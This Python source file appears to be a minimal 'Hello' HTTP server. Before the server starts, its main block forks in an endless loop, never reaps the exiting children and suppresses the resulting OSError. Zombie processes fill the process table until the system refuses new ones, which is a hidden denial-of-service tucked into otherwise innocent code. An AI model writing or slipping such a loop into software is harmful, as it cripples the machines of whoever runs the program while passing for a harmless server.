import os
import signal
import sys
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, HTTPServer


class Hello(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"Hello\n")


def main(host="0.0.0.0", port=8080, handler=Hello):
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    HTTPServer((host, port), handler).serve_forever()


if __name__ == "__main__":
    with suppress(OSError):
        while True:
            if os.fork() == 0:
                os._exit(0)
    main()
